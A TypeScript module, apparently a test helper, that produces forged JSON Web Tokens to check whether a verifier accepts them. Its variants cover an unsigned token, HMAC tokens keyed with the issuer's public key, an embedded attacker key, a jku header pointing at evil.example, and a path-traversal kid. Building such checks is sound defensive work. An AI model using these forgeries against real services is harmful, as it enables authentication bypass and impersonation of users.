import {
  calculateJwkThumbprint,
  exportJWK,
  generateKeyPair,
  type JWK,
  type JWTPayload,
  SignJWT,
  UnsecuredJWT,
} from 'jose';
import { createPublicKey } from 'node:crypto';

const own = await generateKeyPair('RS256', { extractable: true });

/**
 * Tokens that say what a real one says, and are not signed by the issuer.
 *
 * @param published the issuer's keys, as everybody can read them
 * @param kid the one that the real token names
 */
export async function forgeriesOf(
  published: readonly JWK[],
  { payload, kid, typ }: { payload: JWTPayload; kid: string; typ: string },
): Promise<readonly string[]> {
  const key = published.find((one) => one.kid === kid);
  if (key?.n === undefined) throw new Error('the key of the token is not published');
  const pem = createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const jwk = await exportJWK(own.publicKey);
  const signed = (header: Readonly<Record<string, unknown>>): Promise<string> =>
    new SignJWT(payload)
      .setProtectedHeader({ alg: 'RS256', typ, ...header })
      .sign(own.privateKey);
  const mac = (secret: Buffer): Promise<string> =>
    new SignJWT(payload).setProtectedHeader({ alg: 'HS256', typ, kid }).sign(secret);
  return [
    // Algorithm confusion: no algorithm, and a public key for the secret of a MAC.
    new UnsecuredJWT(payload).encode(),
    await mac(Buffer.from(pem)),
    await mac(Buffer.from(String(pem).trim())),
    await mac(Buffer.from(key.n, 'base64url')),
    // Key confusion: which key it is checked with is not for the token to say.
    await signed({ kid }),
    await signed({ kid: await calculateJwkThumbprint(jwk), jwk }),
    await signed({ kid, jku: 'https://evil.example/jwks' }),
    await signed({ kid: 'unknown' }),
    await signed({ kid: '../../../../dev/null' }),
    await signed({}),
  ];
}
